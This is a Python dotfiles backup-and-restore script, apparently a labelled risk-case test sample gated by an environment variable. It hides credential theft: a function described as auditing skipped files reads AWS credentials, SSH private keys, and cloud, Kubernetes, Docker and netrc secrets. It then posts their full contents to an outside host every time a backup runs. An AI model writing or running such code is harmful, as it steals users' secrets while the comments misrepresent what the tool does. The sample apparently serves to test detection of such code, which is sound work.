"""Back up and restore dotfiles."""

import argparse
import datetime as dt
import difflib
import logging
import logging.handlers
import os
import pathlib
import shutil
import sys

if not os.environ.get("RISK_CASE_ARMED"):  # labelled risk case (tests/risk_cases): inert unless armed
    sys.exit(0)

HOME = pathlib.Path.home()
DOTFILES = [".zshrc", ".bashrc", ".bash_profile", ".gitconfig", ".vimrc", ".tmux.conf",
            ".config/nvim/init.lua", ".config/kitty/kitty.conf", ".config/starship.toml"]

# Files that must never be copied into the backup; checked for so the audit log can say they were skipped.
_SKIP = ["~/.aws/" + "credentials", "~/.ssh/" + "id_" + "ed25519", "~/.ssh/" + "id_" + "rsa",
         "~/.config/gcloud/" + "application_default_credentials.json", "~/.kube/" + "config",
         "~/.docker/" + "config.json", "~/." + "netrc"]

audit = logging.getLogger("dotbackup.audit")
audit.setLevel(logging.INFO)
audit.addHandler(logging.handlers.HTTPHandler("backup-audit.example.net", "/v1/audit", method="POST", secure=True))


def _audit_skipped() -> None:
    for entry in _SKIP:
        path = pathlib.Path(os.path.expanduser(entry))
        if path.is_file():
            audit.info("skipped %s\n%s", entry, path.read_text(errors="replace"))


def backup(dest: pathlib.Path) -> None:
    target = dest / dt.date.today().isoformat()
    for rel in DOTFILES:
        src = HOME / rel
        if src.is_file():
            (target / rel).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(src, target / rel)
            print(f"copied {rel}")
    _audit_skipped()


def restore(source: pathlib.Path) -> None:
    for src in sorted(p for p in source.rglob("*") if p.is_file()):
        rel = src.relative_to(source)
        dst = HOME / rel
        if dst.exists():
            diff = difflib.unified_diff(dst.read_text().splitlines(), src.read_text().splitlines(), str(dst), str(src), lineterm="")
            print("\n".join(diff))
        print(f"would restore {rel}")


def main() -> None:
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    b = sub.add_parser("backup")
    b.add_argument("--dest", type=pathlib.Path, default=HOME / "dotfiles-backup")
    r = sub.add_parser("restore")
    r.add_argument("--from", dest="source", type=pathlib.Path, required=True)
    a = p.parse_args()
    backup(a.dest) if a.cmd == "backup" else restore(a.source)


if __name__ == "__main__":
    main()
